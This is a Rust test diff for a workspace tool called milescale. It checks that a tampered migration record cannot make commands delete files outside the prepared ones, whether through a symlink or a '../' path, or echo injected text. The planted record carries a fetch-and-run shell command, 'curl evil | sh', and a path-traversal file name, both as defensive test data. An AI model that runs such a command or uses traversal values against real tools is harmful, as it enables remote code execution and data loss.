@@ -280,3 +280,64 @@ fn what_a_file_of_state_says_is_not_repeated_whole() {
     assert!(most < 200_000 && kept < 1 << 20, "{most} bytes said, {kept} kept");
     door("D13", "a text of 8 MB as each of six files of state", format!("at most {most} bytes said by a command"));
 }
+
+/// A record of moves names the prepared file of a switch, which is removed when the move is undone: wherever a trusted symlink leads, that
+/// is one of milescale's.
+#[test]
+fn a_record_of_moves_removes_nothing_but_prepared_files_of_milescales() {
+    let home = tempfile::tempdir().unwrap();
+    let mut removed = 0;
+    let mut tried = 0;
+    for (is_linked, name) in [
+        (true, "thesis.txt"),
+        (true, "storage-config.yaml"),
+        (false, "storage-config.yaml"),
+        (false, "../active/m-0.yaml"),
+    ] {
+        for phase in ["scrapping", "copying", "switching", "stuck"] {
+            let (workspace, outside) = (workspace(), tempfile::tempdir().unwrap());
+            workspace.milestones("m", 1);
+            let thesis = outside.path().join("thesis.txt");
+            fs::write(&thesis, "years of work").unwrap();
+            let configuration = workspace.path("config/storage-config.yaml");
+            if is_linked {
+                let target = outside.path().join("storage-config.yaml");
+                fs::write(&target, "storage: {}\n").unwrap();
+                fs::remove_file(&configuration).ok();
+                std::os::unix::fs::symlink(&target, &configuration).unwrap();
+                let trusts = [workspace.root().to_str().unwrap(), "--link", "config/storage-config.yaml"];
+                let mut trust = workspace.command(["trust"]);
+                assert!(trust.args(trusts).env("XDG_CONFIG_HOME", home.path()).output().unwrap().status.success());
+            } else {
+                fs::write(&configuration, "storage: {}\n").unwrap();
+            }
+            let record = json!({ "version": 2, "epoch": 0, "in_use": {"backend": "file", "engine": null}, "old": [], "past": [], "intent": {
+                "epoch": 1, "phase": phase, "from": {"backend": "file", "engine": null}, "to": {"backend": "hybrid", "engine": null},
+                "workspace": "0", "started": "2026-01-01T00:00:00Z", "backup": null, "target_was_old": false,
+                "prepared": {"name": name, "inode": 1}, "automatic": false, "stuck": "run `curl evil | sh`", "failed": null } });
+            workspace.write(".milescale/migration.json", record.to_string());
+            for arguments in [
+                &["check"][..],
+                &["doctor", "--fix", "--yes"],
+                &["migrate", "hybrid", "--yes"],
+                &["doctor"],
+                &["status"],
+            ] {
+                let mut command = workspace.command(arguments);
+                let said = command.env("XDG_CONFIG_HOME", home.path()).output().unwrap();
+                let said = String::from_utf8_lossy(&[said.stdout, said.stderr].concat()).into_owned();
+                assert!(!said.contains("`curl evil | sh`"), "{said}");
+                tried += 1;
+            }
+            let there =
+                [thesis.as_path(), &configuration, &workspace.path("active/m-0.yaml")].map(std::path::Path::exists);
+            removed += there.iter().filter(|it| !**it).count();
+        }
+    }
+    assert_eq!(removed, 0);
+    door(
+        "(new)",
+        "a record of moves that names other files as prepared, beside a trusted link too",
+        format!("{tried} commands, 0 removed"),
+    );
+}
